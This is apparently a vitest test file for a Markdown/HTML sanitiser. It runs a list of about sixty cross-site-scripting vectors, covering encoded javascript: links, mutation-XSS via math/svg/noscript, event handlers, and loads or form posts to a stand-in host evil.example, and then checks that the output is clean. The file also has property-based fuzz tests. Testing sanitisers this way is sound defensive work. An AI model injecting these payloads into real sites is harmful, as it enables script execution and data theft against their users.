import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { htmlSoup } from './body-soup.ts';
import { findDangers, parseElements } from './html-safety.ts';
import { htmlOf, readBody } from './resolver.ts';

const VECTORS = [
  '<script>alert(1)</script>甲',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" oNeRrOr="alert(1)" />',
  '<img src="javascript:alert(1)">',
  '<img src="https://evil.example/pixel.gif">',
  '<img srcset="https://evil.example/a.png 2x" src="a.png">',
  '<a href="javascript:alert(1)">甲</a>',
  '<a href="JaVaScRiPt:alert(1)">甲</a>',
  '<a href=" java\nscript:alert(1)">甲</a>',
  '<a href="java&Tab;script:alert(1)">甲</a>',
  '<a href="&#106;avascript:alert(1)">甲</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">甲</a>',
  '<a href="\u0001javascript:alert(1)">甲</a>',
  '<a href="vbscript:x">甲</a>',
  '<a href="data:text/html,<script>alert(1)</script>">甲</a>',
  '<a href="x.md" target="_blank" ping="https://evil.example/" onclick="alert(1)">甲</a>',
  '[甲](javascript:alert(1))',
  '[甲](&#106;avascript:alert(1))',
  '[甲](<java\tscript:alert(1)>)',
  '[甲][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![甲](data:image/svg+xml;base64,PHN2Zz4=)',
  '![<script](a.png "<script>")',
  '![" onerror="alert(1)](a.png)',
  '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>甲</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1)></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="javascript:alert(1)">甲</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<style>body{display:none}</style>',
  '<p style="position:fixed;inset:0">甲</p>',
  '<p class="site-header" id="main" name="search">甲</p>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example/"><input name="card"><button formaction="javascript:alert(1)">甲</button></form>',
  '<input type="image" src="x" onerror="alert(1)"><textarea autofocus onfocus=alert(1)></textarea>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<body onload=alert(1)><html onclick=alert(1)>',
  '<video src=x onerror=alert(1)><source src="https://evil.example/"></video>',
  '<details open ontoggle=alert(1)>甲</details>',
  '<marquee onstart=alert(1)>甲</marquee>',
  '<table background="javascript:alert(1)"><tr><td style="x" colspan="99999">甲</td></tr></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '```js" onmouseover="alert(1)\n甲\n```',
  '`<script>alert(1)</script>`',
  '<custom-element is="x-y" onclick=alert(1)>甲</custom-element>',
  '<a id="location" href="a.md">甲</a><a id="location" name="cookie" href="b.md">乙</a>',
];

describe('sanitising', () => {
  test.each(VECTORS)('%s', (body) => {
    expect(findDangers(htmlOf(body))).toEqual([]);
  });

  test('leaves the words of what it takes away, but not of what is no text', () => {
    expect(
      htmlOf('<font color=red>甲</font><form>乙</form><a href="javascript:x">丙</a><script>丁</script>'),
    ).toBe('<p><font color=red>甲</font></p>乙丙'.replace(/<\/?font[^>]*>/g, ''));
  });

  test('prefixes the ids that editors write', () => {
    expect(htmlOf('<p id="main">甲</p>')).toBe('<p id="user-content-main">甲</p>');
  });

  test("drops inputs that are no tasks' check boxes", () => {
    expect(htmlOf('甲<input type="checkbox">')).toBe('<p>甲</p>');
  });
});

describe('anything at all', () => {
  test('soup of Markdown and HTML becomes safe HTML with one element an id', () => {
    fc.assert(
      fc.property(htmlSoup, (body) => {
        expect(findDangers(htmlOf(body))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  }, 60_000);

  test('any string becomes safe HTML', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (body) => {
        expect(findDangers(htmlOf(body))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  }, 60_000);

  test('facts are read of anything, and their anchors are those of the page', () => {
    fc.assert(
      fc.property(htmlSoup, fc.constantFrom('md', 'mdx'), (body, format) => {
        const facts = readBody(body, { format, firstLine: 7 });
        const lines = body.split(/\r\n|\r|\n/).length;
        for (const { line, column } of [...facts.links, ...facts.findings]) {
          expect(line).toBeGreaterThanOrEqual(7);
          expect(line).toBeLessThan(7 + lines + 1);
          expect(column).toBeGreaterThanOrEqual(1);
        }
        expect(facts.excerpt.length).toBeLessThanOrEqual(120);
        expect(facts.findings.map(({ rule }) => rule)).not.toContain('body-unreadable');
        if (format === 'mdx') return;
        const headings = parseElements(htmlOf(body)).filter(({ tagName }) => /^h\d$/.test(tagName));
        const anchors = headings.map(({ properties }) => properties['id']);
        expect(anchors.filter((id) => id !== 'user-content-footnote-label').join('\n')).toBe(facts.anchors);
        expect(anchors.join('')).not.toContain('\n');
      }),
      { numRuns: 400 },
    );
  }, 60_000);
});
